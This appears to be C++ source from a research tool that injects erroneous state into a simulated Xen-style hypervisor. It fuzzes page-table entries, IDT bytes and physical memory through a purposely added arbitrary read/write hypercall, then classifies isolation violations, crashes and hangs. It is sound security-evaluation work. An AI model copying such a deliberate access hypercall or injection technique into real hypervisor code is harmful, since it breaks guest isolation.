  obs::ScopedSpan run_span{config.profiler, obs::kSpanFuzz};

  SeqFuzzStats stats;
  stats.iterations = config.iterations;
  stats.guided = config.guided;
  stats.seed = config.seed;

  guest::PlatformConfig pc = config.platform;
  pc.version = config.version;
  pc.injector_enabled = true;
  guest::VirtualPlatform platform{pc};
  const guest::PlatformBaseline baseline = platform.baseline();

  CoverageMap map;
  std::vector<ScoredEntry> corpus;
  std::set<std::uint64_t> survivor_hashes;

  if (!config.corpus_dir.empty()) {
    std::error_code ec;
    std::filesystem::create_directories(config.corpus_dir, ec);
  }

  for (unsigned i = 0; i < config.iterations; ++i) {
    std::mt19937_64 rng = rng_for(config.seed, i);
    platform.restore(baseline);

    // Schedule: guided mode spends 3/4 of its budget mutating the corpus
    // entry with the best recent coverage yield; blind mode (and an empty
    // corpus) always draws a fresh trace.
    std::vector<FuzzOp> ops;
    std::size_t picked = corpus.size();  // sentinel: fresh trace
    if (config.guided && !corpus.empty() && draw_below(rng, 4) < 3) {
      std::uint64_t total = 0;
      for (const ScoredEntry& e : corpus) total += 1 + e.energy;
      std::uint64_t r = draw_below(rng, total);
      for (std::size_t k = 0; k < corpus.size(); ++k) {
        const std::uint64_t w = 1 + corpus[k].energy;
        if (r < w) { picked = k; break; }
        r -= w;
      }
      ops = mutate_trace(rng, platform, corpus[picked].entry.ops, corpus,
                         config.max_ops);
    } else {
      ops = random_trace(rng, platform, config.max_ops);
    }

    TraceResult result;
    {
      obs::ScopedSpan exec_span{config.profiler, obs::kSpanFuzzExec};
      result = execute_trace(platform, ops, &map);
      exec_span.add_steps(result.ops_executed);
    }

    ++stats.outcomes[result.outcome];
    stats.ops_executed += result.ops_executed;
    stats.ops_refused += result.ops_refused;
    for (const auto c : result.classes) ++stats.class_hits[c];

    // Feedback: traces that lit up new coverage join the corpus with energy
    // proportional to their yield; a picked entry that stopped yielding
    // decays so the scheduler moves on.
    if (config.guided) {
      if (result.new_coverage > 0) {
        corpus.push_back(ScoredEntry{
            CorpusEntry{ops, result.outcome, result.classes,
                        result.state_hash},
            result.new_coverage});
        // Credit assignment: a parent whose mutant grew coverage is still
        // a productive frontier — keep it hot.
        if (picked < corpus.size()) {
          corpus[picked].energy += result.new_coverage / 2;
        }
        if (corpus.size() > config.max_corpus) {
          const auto min_it = std::min_element(
              corpus.begin(), corpus.end(),
              [](const ScoredEntry& a, const ScoredEntry& b) {
                return a.energy < b.energy;
              });
          corpus.erase(min_it);
        }
      } else if (picked < corpus.size()) {
        // Exhausted frontier: halve instead of stepping down so a one-time
        // jackpot cannot monopolize the scheduler for hundreds of picks.
        corpus[picked].energy /= 2;
      }
    }

    // Survivors: erroneous states the monitor still observes after the
    // activation workload. Deduplicate by final state hash.
    const bool survived = result.outcome == FuzzOutcome::IsolationViolation ||
                          result.outcome == FuzzOutcome::HostCrash ||
                          result.outcome == FuzzOutcome::CpuHang;
    if (survived && survivor_hashes.insert(result.state_hash).second) {
      Survivor survivor;
      survivor.found_iteration = i;
      survivor.raw_ops = static_cast<unsigned>(ops.size());
      std::vector<FuzzOp> min_ops = ops;
      std::uint64_t entry_hash = result.state_hash;
      if (config.minimize) {
        obs::ScopedSpan min_span{config.profiler, obs::kSpanFuzzMinimize};
        unsigned execs = 0;
        min_ops = minimize_trace_impl(platform, baseline, std::move(min_ops),
                                      result.outcome, result.classes,
                                      config.max_minimize_execs, &execs);
        // The stored record must replay to ITS OWN result, and the shrunk
        // trace reaches a different (smaller) final state than the raw one:
        // re-execute once and record the minimized trace's state hash.
        platform.restore(baseline);
        entry_hash =
            execute_trace(platform, min_ops, nullptr).state_hash;
        stats.minimizer_execs += execs + 1;
        min_span.add_steps(execs + 1);
      }
      survivor.entry = CorpusEntry{std::move(min_ops), result.outcome,
                                   result.classes, entry_hash};
      // Novel: not one of the paper's four XSA families — either an
      // unexplained invariant violation (classified Other) or a crash/hang
      // with no classifiable post-state at all.
      survivor.novel =
          result.classes.empty() ||
          std::find(result.classes.begin(), result.classes.end(),
                    analysis::ErroneousStateClass::Other) !=
              result.classes.end();
      if (!config.corpus_dir.empty()) {
        obs::ScopedSpan io_span{config.profiler, obs::kSpanFuzzCorpus};
        std::ostringstream name;
        name << "survivor_"
             << std::setw(4) << std::setfill('0') << stats.survivors.size()
             << ".trace";
        survivor.file = name.str();
        if (!store_trace_file(config.corpus_dir + "/" + survivor.file,
                              survivor.entry, config.version)) {
          ++stats.corpus_write_failures;
          survivor.file.clear();
        }
        io_span.add_steps(1);
      }
      stats.survivors.push_back(std::move(survivor));
    }

    if ((i + 1) % 1000 == 0) stats.coverage_curve.push_back(map.points());
  }
  if (stats.coverage_curve.empty() ||
      stats.coverage_curve.back() != map.points()) {
    stats.coverage_curve.push_back(map.points());
  }

  // Persist the final corpus: the replayable seed set for the next run.
  if (!config.corpus_dir.empty()) {
    obs::ScopedSpan io_span{config.profiler, obs::kSpanFuzzCorpus};
    for (std::size_t k = 0; k < corpus.size(); ++k) {
      std::ostringstream name;
      name << "corpus_" << std::setw(4) << std::setfill('0') << k << ".trace";
      if (!store_trace_file(config.corpus_dir + "/" + name.str(),
                            corpus[k].entry, config.version)) {
        ++stats.corpus_write_failures;
      }
    }
    io_span.add_steps(corpus.size());
  }

  stats.coverage_points = map.points();
  stats.corpus_entries = static_cast<unsigned>(corpus.size());
  run_span.add_steps(stats.iterations);

  if (config.metrics != nullptr) {
    obs::MetricsRegistry& m = *config.metrics;
    m.counter("fuzz.iterations").inc(stats.iterations);
    m.counter("fuzz.coverage_points").inc(stats.coverage_points);
    m.counter("fuzz.corpus_entries").inc(stats.corpus_entries);
    m.counter("fuzz.survivors").inc(stats.survivors.size());
    m.counter("fuzz.novel_survivors").inc(stats.novel_survivors());
    m.counter("fuzz.ops_executed").inc(stats.ops_executed);
    m.counter("fuzz.ops_refused").inc(stats.ops_refused);
    m.counter("fuzz.minimizer_execs").inc(stats.minimizer_execs);
    m.counter("fuzz.corpus_write_failures").inc(stats.corpus_write_failures);
  }
  return stats;
}

}  // namespace ii::core
