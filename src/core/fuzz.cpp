#include "core/fuzz.hpp"

#include <memory>
#include <random>
#include <sstream>

#include "core/injector.hpp"
#include "core/monitor.hpp"
#include "hv/audit.hpp"

namespace ii::core {

std::string to_string(FuzzOutcome outcome) {
  switch (outcome) {
    case FuzzOutcome::NoObservableEffect: return "no observable effect";
    case FuzzOutcome::DetectedByAudit: return "detected by audit";
    case FuzzOutcome::IsolationViolation: return "ISOLATION VIOLATION";
    case FuzzOutcome::HostCrash: return "HOST CRASH";
    case FuzzOutcome::CpuHang: return "CPU HANG";
  }
  return "unknown";
}

namespace {

std::string target_name(FuzzTarget target) {
  switch (target) {
    case FuzzTarget::OwnL1Slot: return "own L1 slot";
    case FuzzTarget::OwnL4Slot: return "own L4 slot";
    case FuzzTarget::IdtBytes: return "IDT gate bytes";
    case FuzzTarget::XenL3Slot: return "shared Xen L3 slot";
    case FuzzTarget::WildPhysical: return "wild physical address";
  }
  return "unknown";
}

/// A plausible-but-random PTE value: a frame somewhere in the machine plus
/// a random flag cocktail (biased towards present entries — non-present
/// injections are overwhelmingly inert).
std::uint64_t random_pte(std::mt19937& rng, std::uint64_t frames) {
  // Bias towards the low, populated frame region (hypervisor image, dom0,
  // guests all live there): a uniform draw over a mostly-empty machine
  // would make almost every injected entry point at free frames and tell
  // us nothing.
  const std::uint64_t frame = rng() % 4 == 0
                                  ? rng() % frames
                                  : rng() % std::max<std::uint64_t>(
                                                frames / 32, 1);
  std::uint64_t flags = 0;
  if (rng() % 8 != 0) flags |= sim::Pte::kPresent;
  if (rng() % 2) flags |= sim::Pte::kWritable;
  if (rng() % 4 != 0) flags |= sim::Pte::kUser;
  if (rng() % 8 == 0) flags |= sim::Pte::kPageSize;
  if (rng() % 16 == 0) flags |= sim::Pte::kNoExecute;
  return sim::Pte::make(sim::Mfn{frame}, flags).raw();
}

/// splitmix64 finalizer: full-avalanche mix of a 64-bit value.
std::uint64_t mix64(std::uint64_t x) {
  x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ULL;
  x = (x ^ (x >> 27)) * 0x94D049BB133111EBULL;
  return x ^ (x >> 31);
}

/// Per-iteration engine over the full 64-bit campaign seed. The previous
/// scheme — std::mt19937{seed * 2654435761u + iteration} — silently
/// narrowed the product to the engine's 32-bit seed type, so seeds
/// differing only in their high word collided and nearby seeds produced
/// correlated streams. splitmix64 is the standard fix (it is what
/// std::mt19937_64 seeding folklore and SplittableRandom use): decorrelate
/// first, then feed both halves through a seed_seq.
std::mt19937 rng_for(std::uint64_t seed, unsigned iteration) {
  const std::uint64_t z = mix64(seed + 0x9E3779B97F4A7C15ULL * (iteration + 1));
  std::seed_seq seq{static_cast<std::uint32_t>(z),
                    static_cast<std::uint32_t>(z >> 32)};
  return std::mt19937{seq};
}

/// One iteration: inject, activate, classify. The platform arrives at its
/// boot baseline (fresh or rewound — byte-identical either way).
FuzzOutcome run_one(const FuzzConfig& config, unsigned iteration,
                    guest::VirtualPlatform& platform, FuzzTarget* chosen,
                    bool* refused) {
  std::mt19937 rng = rng_for(config.seed, iteration);
  guest::GuestKernel& attacker = platform.guest(0);
  ArbitraryAccessInjector injector{attacker};
  const std::uint64_t frames = platform.memory().frame_count();

  const auto target = static_cast<FuzzTarget>(rng() % 5);
  *chosen = target;
  std::uint64_t address = 0;
  std::uint64_t value = random_pte(rng, frames);
  switch (target) {
    case FuzzTarget::OwnL1Slot:
      address = sim::mfn_to_paddr(attacker.l1_mfn(0)).raw() +
                (rng() % sim::kPtEntries) * 8;
      break;
    case FuzzTarget::OwnL4Slot:
      address = sim::mfn_to_paddr(attacker.l4_mfn()).raw() +
                (rng() % sim::kPtEntries) * 8;
      break;
    case FuzzTarget::IdtBytes:
      address = platform.hv().idt_base().raw() +
                rng() % (sim::kIdtVectors * sim::Idt::kGateBytes - 8);
      value = rng() | (std::uint64_t{rng()} << 32);
      break;
    case FuzzTarget::XenL3Slot:
      address = sim::mfn_to_paddr(platform.hv().xen_l3()).raw() +
                (rng() % sim::kPtEntries) * 8;
      break;
    case FuzzTarget::WildPhysical:
      address = rng() % (platform.memory().byte_size() - 8);
      value = rng() | (std::uint64_t{rng()} << 32);
      break;
  }

  if (!injector.write_u64(address, value, AddressMode::Physical)) {
    *refused = true;
    return FuzzOutcome::NoObservableEffect;
  }

  // Activation workload: ordinary guest behaviour that would trip over the
  // injected state — touch own memory, take a page fault, raise a couple of
  // interrupt vectors, run the event loop.
  std::array<std::uint8_t, 8> buf{};
  for (unsigned i = 0; i < 4; ++i) {
    const sim::Pfn pfn{guest::kFirstFreePfn.raw() + rng() % 8};
    (void)attacker.read_virt(attacker.pfn_va(pfn), buf);
  }
  (void)attacker.read_virt(sim::Vaddr{0xDEAD000000ULL}, buf);  // page fault
  (void)attacker.software_interrupt(static_cast<unsigned>(rng() % 256));
  (void)attacker.handle_events();

  // Classification, most severe first.
  if (platform.hv().crashed()) return FuzzOutcome::HostCrash;
  if (platform.hv().cpu_hung()) return FuzzOutcome::CpuHang;
  const hv::AuditReport report = hv::audit_system(platform.hv());
  const bool isolation =
      report.has(hv::FindingKind::GuestWritablePageTable) ||
      report.has(hv::FindingKind::GuestWritableXenFrame) ||
      report.has(hv::FindingKind::GuestMapsForeignFrame);
  if (isolation) return FuzzOutcome::IsolationViolation;
  if (!report.clean()) return FuzzOutcome::DetectedByAudit;
  return FuzzOutcome::NoObservableEffect;
}

}  // namespace

std::string FuzzStats::render() const {
  std::ostringstream os;
  os << "randomized injections: " << iterations << " (refused: "
     << injections_refused << ")\n";
  for (const auto& [outcome, count] : outcomes) {
    os << "  " << to_string(outcome) << ": " << count << "\n";
  }
  os << "targets drawn:\n";
  for (const auto& [target, count] : targets) {
    os << "  " << target_name(target) << ": " << count << "\n";
  }
  return os.str();
}

FuzzStats run_random_injection_campaign(const FuzzConfig& config) {
  FuzzStats stats;
  stats.iterations = config.iterations;

  guest::PlatformConfig pc = config.platform;
  pc.version = config.version;
  pc.injector_enabled = true;

  // Warm path: one boot, then rewind to the baseline between iterations —
  // the same delta-restore machinery the campaign pool uses. A rewound
  // platform is byte-identical to a fresh boot, so outcome/refused/target
  // counts match the cold path exactly (regression-tested).
  std::unique_ptr<guest::VirtualPlatform> platform;
  std::unique_ptr<guest::PlatformBaseline> baseline;
  for (unsigned i = 0; i < config.iterations; ++i) {
    if (platform == nullptr) {
      platform = std::make_unique<guest::VirtualPlatform>(pc);
      ++stats.platform_boots;
      if (config.reuse_platform) {
        baseline = std::make_unique<guest::PlatformBaseline>(
            platform->baseline());
      }
    } else if (config.reuse_platform) {
      platform->restore(*baseline);
    } else {
      platform = std::make_unique<guest::VirtualPlatform>(pc);
      ++stats.platform_boots;
    }
    FuzzTarget target{};
    bool refused = false;
    const FuzzOutcome outcome =
        run_one(config, i, *platform, &target, &refused);
    ++stats.outcomes[outcome];
    ++stats.targets[target];
    if (refused) ++stats.injections_refused;
  }
  return stats;
}

}  // namespace ii::core
