// The intrusion-injector interface and its arbitrary-access implementation.
//
// The paper's prototype exposes one new hypercall that lets a guest kernel
// read/write n bytes at an arbitrary linear or physical address (§V-B).
// Injector is the abstract component of Fig. 2 ("the component that injects
// the erroneous state into the hypervisor, based on the IM"); different
// erroneous states may need different injector implementations, so scripts
// program against the interface.
#pragma once

#include <cstdint>
#include <optional>
#include <span>

#include "guest/kernel.hpp"

namespace ii::core {

/// Address interpretation, matching the hypercall's action modes.
enum class AddressMode { Linear, Physical };

/// Abstract erroneous-state injector.
class Injector {
 public:
  virtual ~Injector() = default;

  /// Read/write `buffer.size()` bytes at `addr`. Returns false on refusal
  /// (unmapped address, disabled injector, ...); last_rc() has the code.
  virtual bool read(std::uint64_t addr, std::span<std::uint8_t> out,
                    AddressMode mode) = 0;
  virtual bool write(std::uint64_t addr, std::span<const std::uint8_t> in,
                     AddressMode mode) = 0;

  /// Status of the most recent operation (hypercall errno convention).
  [[nodiscard]] virtual long last_rc() const = 0;

  // Convenience accessors used throughout the injection scripts.
  [[nodiscard]] std::optional<std::uint64_t> read_u64(std::uint64_t addr,
                                                      AddressMode mode);
  bool write_u64(std::uint64_t addr, std::uint64_t value, AddressMode mode);
};

/// Injector backed by the HYPERVISOR_arbitrary_access hypercall, issued
/// from a given guest kernel (the paper's "interface with the guest OS").
class ArbitraryAccessInjector final : public Injector {
 public:
  explicit ArbitraryAccessInjector(guest::GuestKernel& guest)
      : guest_{&guest} {}

  bool read(std::uint64_t addr, std::span<std::uint8_t> out,
            AddressMode mode) override;
  bool write(std::uint64_t addr, std::span<const std::uint8_t> in,
             AddressMode mode) override;
  [[nodiscard]] long last_rc() const override { return last_rc_; }

 private:
  guest::GuestKernel* guest_;
  long last_rc_ = 0;
};

}  // namespace ii::core
